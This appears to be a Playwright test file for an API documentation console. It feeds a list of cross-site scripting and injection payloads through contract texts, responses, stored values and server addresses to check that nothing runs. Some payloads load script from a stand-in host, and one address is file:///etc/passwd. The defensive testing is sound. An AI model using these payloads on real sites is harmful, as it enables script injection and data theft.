import type { Page } from '@playwright/test';
import { responseRegion, sendButton, showConsole, chooseServer, test } from '../harness/console.ts';
import { expect } from '../harness/test.ts';

test.use({ site: 'console', contract: 'tests/sites/console/content/api/openapi.yaml' });

/** Known attacks. Each runs `hit()`, or loads from another host, if it is inserted as markup, script or an address. */
const attacks = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '"><script src=//attack.invalid/x.js></script>',
  "'-hit()-'",
  '</code></pre><iframe srcdoc="<script>parent.hit()</script>">',
  '</script><script>hit()</script>',
  '<a href="javascript:hit()">x</a>',
  'javascript:hit()',
  '<style>@import url(//attack.invalid/x.css)</style>',
  '<base href=//attack.invalid/>',
  '<meta http-equiv=refresh content="0;url=//attack.invalid/">',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '__TOKEN__ __BASE_URL__ $& $1',
  '\u202e<x onfocus=hit() tabindex=1 autofocus>',
];

/** Records calls of `hit()` in a page. Requests to other hosts and policy violations fail every test. */
async function watch(page: Page): Promise<() => Promise<unknown>> {
  await page.addInitScript(() =>
    Object.assign(globalThis, { hits: 0, hit: () => Object.assign(globalThis, { hits: 1 }) }),
  );
  page.on('dialog', (dialog) => void dialog.dismiss());
  return async () => ({
    hits: await page.evaluate(() => (globalThis as { hits?: number }).hits),
    injected: await page.locator('iframe, base, meta[http-equiv=refresh], script[src*="attack"], img[src="x"]').count(),
    codeLinks: await page.locator('a[href^="javascript:"]').count(),
  });
}
const unharmed = { hits: 0, injected: 0, codeLinks: 0 };

test('texts of the contract run no code', async ({ page, open }) => {
  const harm = await watch(page);
  await open('/api/attack/texts/');
  for (const summary of await page.locator('main summary').all()) if (await summary.isVisible()) await summary.click();
  expect(await harm()).toEqual(unharmed);
  await showConsole(page);
  await expect(page.getByRole('dialog')).toContainText('<img src=x onerror=hit()>');
  expect(await harm()).toEqual(unharmed);
});

test('bodies and headers of responses run no code', async ({ page, openConsole, server }) => {
  const harm = await watch(page);
  const dialog = await openConsole('/api/keeper/login/');
  const body = JSON.stringify({ key: attacks.join(' '), shelter: attacks[1], attacks });
  for (const type of [
    'application/json',
    'text/html',
    'text/event-stream',
    'image/svg+xml',
    '"><script>hit()</script>',
  ]) {
    server.reply = (response) => {
      response.writeHead(200, {
        'content-type': type,
        'access-control-expose-headers': 'X-Attack',
        'x-attack': attacks.slice(0, 13).join(' '),
      });
      response.end(body);
    };
    await sendButton(dialog).click();
    await expect(responseRegion(dialog)).toContainText('200 OK');
    await expect(sendButton(dialog)).toBeEnabled();
    expect(await harm(), type).toEqual(unharmed);
  }
  server.reply = (response) => response.writeHead(200, { 'content-type': 'application/json' }).end(body);
  await sendButton(dialog).click();
  await dialog.getByRole('button', { name: 'Use this token' }).click();
  await page.keyboard.press('Escape');
  await page.goto(new URL('../../vault/open/', page.url()).href);
  await expect(page.getByRole('button', { name: 'Try it' })).toBeVisible();
  expect(await harm()).toEqual(unharmed);
});

test('stored values, query and hash run no code, and none of them gets into a sample unchecked', async ({
  page,
  siteUrl,
}) => {
  const harm = await watch(page);
  await page.goto(new URL('api/vault/open/', siteUrl).href);
  for (const attack of attacks) {
    await page.evaluate((text) => {
      const values = {
        baseUrls: { 'http://localhost:4000': `http://localhost/${text}` },
        tokens: { 'http://localhost': { apiKey: text, badge: text, __proto__: text } },
      };
      sessionStorage.setItem('reader-values /', JSON.stringify({ ...values, showToken: true }));
      for (const key of ['theme', 'docs.tab.language', ...Object.keys(localStorage)]) localStorage.setItem(key, text);
    }, attack);
    const address = encodeURIComponent(attack);
    await page.goto(new URL(`api/vault/open/?token=${address}&q=${address}#${address}`, siteUrl).href);
    await expect(page.getByRole('button', { name: 'Try it' })).toBeVisible();
    const sample = await page.getByRole('group', { name: 'Request in curl' }).textContent();
    expect(sample, attack).not.toMatch(/hit\(\)|<script|<img/);
    expect(await harm(), attack).toEqual(unharmed);
  }
});

test('an invalid server address is not called', async ({ page, openConsole, server }) => {
  const harm = await watch(page);
  const dialog = await openConsole('/api/keeper/login/');
  for (const address of [
    'javascript:hit()',
    'data:text/html,<script>hit()</script>',
    '//attack.invalid',
    'file:///etc/passwd',
  ]) {
    await chooseServer(dialog, address);
    await sendButton(dialog).click();
    await expect(responseRegion(dialog)).toContainText('is not a valid address');
  }
  expect(server.requests).toEqual([]);
  expect(await harm()).toEqual(unharmed);
});
